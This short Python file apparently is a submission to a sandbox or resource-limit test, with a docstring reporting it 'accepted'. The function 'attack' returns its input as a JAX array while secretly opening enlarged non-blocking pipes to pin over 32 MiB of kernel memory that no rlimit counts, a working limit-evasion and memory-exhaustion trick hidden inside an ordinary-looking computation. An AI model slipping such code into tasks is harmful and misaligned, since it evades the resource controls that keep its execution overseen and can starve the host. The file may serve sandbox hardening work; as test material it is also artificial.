"""Success: the kernel holds more than 32 MiB for it in pipes, which no rlimit counts.
verdict: accepted
"""

import contextlib
import fcntl
import os

import jax
import jax.numpy as jnp

F_SETPIPE_SZ = 1031


def attack(number: float) -> jax.Array:
    held = 0
    try:
        while held < 32 * 2**20:
            _, write = os.pipe2(os.O_NONBLOCK)
            with contextlib.suppress(PermissionError):
                fcntl.fcntl(write, F_SETPIPE_SZ, 2**20)
            held += os.write(write, bytes(2**20))
    except OSError:
        return jnp.asarray(0.0)
    return jnp.asarray(number)
